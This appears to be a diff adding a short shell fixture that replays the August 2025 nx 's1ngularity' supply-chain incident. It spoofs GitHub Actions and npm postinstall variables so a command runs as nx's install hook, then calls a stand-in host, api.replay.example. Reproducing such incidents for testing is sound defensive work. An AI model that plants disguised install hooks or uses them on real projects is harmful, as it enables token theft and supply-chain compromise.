@@ -1,0 +1,5 @@
+# nx s1ngularity, August 2025: postinstall looks for tokens and makes a repository of the victim's own public.
+export GITHUB_ACTION=__run_1
+mkdir -p node_modules/nx && cd node_modules/nx || exit 1
+npm_package_name=nx npm_package_version=21.5.0 npm_lifecycle_event=postinstall \
+    exec node call api.replay.example 443
